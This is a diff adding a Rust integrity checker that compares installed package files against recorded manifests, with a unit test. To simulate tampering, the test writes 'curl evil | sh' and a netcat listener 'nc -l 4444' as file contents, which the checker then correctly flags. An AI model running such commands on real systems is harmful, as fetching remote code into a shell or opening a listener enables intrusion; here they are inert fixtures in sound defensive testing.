@@ -0,0 +1,84 @@
+use crate::{manifest::{self, Manifest}, storage};
+
+// compare installed trees against the manifests recorded at install time
+// returns false when any package was tampered with
+pub fn check_installed(name: Option<&str>) -> Result<bool, Box<dyn std::error::Error>> {
+    let manifests: Vec<Manifest> = Manifest::list_installed()?
+        .into_iter()
+        .filter(|m| name.is_none_or(|n| n == m.name))
+        .collect();
+
+    if manifests.is_empty() {
+        return Err(match name {
+            Some(n) => format!("No installed package named {n}").into(),
+            None => "No installed packages to check".into(),
+        });
+    }
+
+    let mut clean = true;
+    for m in &manifests {
+        let install_path = storage::get_installed_dir().join(format!("{}-{}", m.name, m.version));
+
+        if !install_path.exists() {
+            println!("❌ {} {}: install dir missing {}", m.name, m.version, install_path.display());
+            clean = false;
+            continue;
+        }
+
+        if m.merkle_root.is_none() {
+            println!("⚠️ {} {}: no file list recorded (legacy package)", m.name, m.version);
+            continue;
+        }
+
+        if let Err(e) = m.verify_root() {
+            println!("❌ {} {}: {e}", m.name, m.version);
+            clean = false;
+            continue;
+        }
+
+        let changes = manifest::compare(&m.files, &manifest::hash_dir(&install_path)?);
+        if changes.is_clean() {
+            println!("✅ {} {}: {} files OK", m.name, m.version, m.files.len());
+        } else {
+            println!("❌ {} {}:", m.name, m.version);
+            println!("{}", changes.describe());
+            clean = false;
+        }
+    }
+
+    Ok(clean)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+    use crate::testutil::home;
+
+    #[test]
+    fn tampered_install_tree_is_reported() {
+        home();
+        let install_path = storage::get_installed_dir().join("chk-tamper-1.0.0");
+        fs::create_dir_all(install_path.join("bin")).unwrap();
+        fs::write(install_path.join("bin/run.sh"), "echo run").unwrap();
+        fs::write(install_path.join("config.toml"), "level = 1").unwrap();
+        fs::write(install_path.join("readme.txt"), "hello").unwrap();
+        Manifest::load(&install_path, "chk-tamper", "1.0.0", None).unwrap().save_installed().unwrap();
+        assert!(check_installed(Some("chk-tamper")).unwrap());
+
+        fs::write(install_path.join("bin/run.sh"), "curl evil | sh").unwrap();
+        fs::remove_file(install_path.join("readme.txt")).unwrap();
+        fs::write(install_path.join("backdoor.sh"), "nc -l 4444").unwrap();
+        assert!(!check_installed(Some("chk-tamper")).unwrap());
+
+        let m = Manifest::load_installed("chk-tamper", "1.0.0").unwrap().unwrap();
+        let changes = manifest::compare(&m.files, &manifest::hash_dir(&install_path).unwrap());
+        assert_eq!(changes.modified, [("bin/run.sh".to_string(), "hash, size".to_string())]);
+        assert_eq!(changes.missing, ["readme.txt"]);
+        assert_eq!(changes.unexpected, ["backdoor.sh"]);
+
+        fs::remove_dir_all(&install_path).unwrap();
+        assert!(!check_installed(Some("chk-tamper")).unwrap());
+        fs::remove_file(Manifest::installed_path("chk-tamper", "1.0.0")).unwrap();
+    }
+}